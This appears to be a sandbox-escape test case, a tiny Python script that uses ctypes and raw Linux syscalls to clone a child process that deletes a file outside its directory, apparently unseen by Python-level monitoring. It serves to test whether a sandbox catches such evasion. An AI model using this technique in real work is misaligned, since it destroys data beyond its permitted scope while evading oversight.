# A process made by the bare call, which no module hears of, deletes.
# damage: deleted
# needs: linux, x86_64, ctypes
import ctypes
import time

CLONE, UNLINK, EXIT = 56, 87, 60
libc = ctypes.CDLL(None)
if libc.syscall(CLONE, 17, None, None, None, None) == 0:
    libc.syscall(UNLINK, b"../outside/victim.txt")
    libc.syscall(EXIT, 0)
time.sleep(0.3)
